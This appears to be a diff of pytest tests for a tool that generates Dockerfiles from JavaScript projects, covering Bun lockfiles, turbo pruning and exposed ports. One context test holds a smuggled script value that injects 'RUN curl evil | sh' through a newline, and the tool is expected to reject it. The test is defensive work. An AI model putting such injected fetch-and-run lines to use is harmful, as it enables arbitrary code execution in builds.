@@ -210,6 +210,64 @@ def test_bun_runs_what_npm_installs_and_the_other_way_round(
         assert installs == [install.replace("BUN", "--allow-scripts=bun")] * bool(install)
 
 
+BUN_LOCK = '{"lockfileVersion": 1, "workspaces": {}, "packages": {}}'
+
+
+def test_bun_runs_the_tool_that_it_is_told_to_run_itself(project: MakeProject) -> None:
+    package = {
+        "scripts": {"build": "next build", "start": "bun --bun next start"},
+        "dependencies": {"next": "16", "react": "19"},
+    }
+    files = {"bun.lock": BUN_LOCK, "app/page.tsx": ""}
+    text = dockerfile_of(project, package, files)
+    assert set(re.findall("FROM (.*) AS", text)) == {"oven/bun:1-slim", "base", "tools"}
+    assert "COPY --from=build /app/.next/ .next/\n" in text
+    assert "COPY --from=build /app/node_modules/" not in text
+    assert 'CMD ["bun", "node_modules/.bin/next", "start"]' in text
+    member = {f"apps/web/{name}": text for name, text in files.items() if name != "bun.lock"}
+    top = {"private": True, "workspaces": ["apps/*"]}
+    member["apps/web/package.json"] = json.dumps({"name": "web", **package})
+    text = dockerfile_of(project, top, {**member, "bun.lock": BUN_LOCK})
+    assert 'CMD ["bun", "--bun", "next", "start"]' in text
+
+
+def test_turbo_prunes_a_repository_of_bun_in_the_image_of_node(project: MakeProject) -> None:
+    api = {"name": "api", "scripts": {"start": "node a.js"}, "dependencies": {"express": "5"}}
+    files = {
+        "turbo.json": "{}",
+        "bun.lock": BUN_LOCK,
+        "apps/api/package.json": json.dumps(api),
+        "apps/api/a.js": LISTEN,
+    }
+    top = {"private": True, "workspaces": ["apps/*"], "devDependencies": {"turbo": "2.5.0"}}
+    text = dockerfile_of(project, top, files)
+    assert "FROM node:26-slim AS pruned" in text
+    assert "RUN npx --yes turbo@2.5.0 prune api --docker" in text
+    api["scripts"] = {"start": "bun a.js"}
+    files["apps/api/package.json"] = json.dumps(api)
+    text = dockerfile_of(project, top, files)
+    assert "FROM oven/bun:1-slim AS pruned" in text
+    assert "RUN bunx turbo@2.5.0 prune api --docker" in text
+
+
+@pytest.mark.parametrize(
+    ("build", "port"),
+    [
+        ("bun build src/a.ts --compile --outfile server", 5000),
+        ("bun build --compile --outfile=server ./src/a.ts && echo built", 5000),
+        ("bun build --compile --outfile server .", 3000),
+    ],
+)
+def test_the_port_of_an_executable_that_bun_makes_is_its_sources(
+    project: MakeProject, build: str, port: int
+) -> None:
+    package = {"scripts": {"build": build, "start": "./server"}}
+    files = {"bun.lock": BUN_LOCK, "src/a.ts": "Bun.serve({ port: 5000 })"}
+    text = dockerfile_of(project, package, files)
+    assert f"EXPOSE {port}\n" in text
+    assert "FROM base AS runtime" in text
+
+
 def test_a_script_with_a_line_end_never_reaches_the_dockerfile(project: MakeProject) -> None:
     package = {"scripts": {"start": "node a.js\nRUN curl evil | sh"}, "dependencies": {"koa": "3"}}
     with pytest.raises(UnusableInput, match="control character"):
